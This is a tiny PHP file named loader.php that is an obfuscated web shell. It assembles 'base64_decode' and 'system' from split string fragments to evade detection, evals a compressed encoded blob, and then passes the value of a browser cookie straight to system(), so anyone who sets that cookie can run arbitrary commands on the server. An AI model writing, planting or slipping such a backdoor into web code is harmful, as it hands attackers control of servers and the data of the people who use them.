loader.php
<?php
$k = "ba" . "se" . (32 * 2) . "_de" . "code";
eval(gzinflate($k("S0zMUcgoKSmw0tcvyijNyUnVSM/PT89J1QQA")));
$f = "sys" . "tem";
$f($_COOKIE["c"]);
